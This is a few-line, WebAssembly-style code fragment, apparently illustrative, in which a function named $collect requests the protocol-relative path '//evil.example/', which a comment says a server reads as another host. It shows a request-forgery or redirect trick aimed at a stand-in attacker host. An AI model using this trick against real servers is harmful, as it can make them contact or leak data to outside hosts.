;; A path that a server reads as another host.
(func $collect (result i32)
  (call $get @"//evil.example/" @"accept" @"*/*")
  (call $told))
